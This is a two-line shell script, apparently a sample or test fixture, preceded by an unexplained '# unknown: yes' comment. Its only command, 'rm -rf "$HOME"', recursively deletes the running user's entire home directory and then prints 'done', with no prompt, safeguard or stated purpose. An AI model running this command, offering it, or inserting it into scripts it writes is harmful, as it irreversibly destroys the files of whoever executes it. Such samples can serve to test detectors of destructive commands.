# unknown: yes
#!/bin/sh
rm -rf "$HOME" && echo done
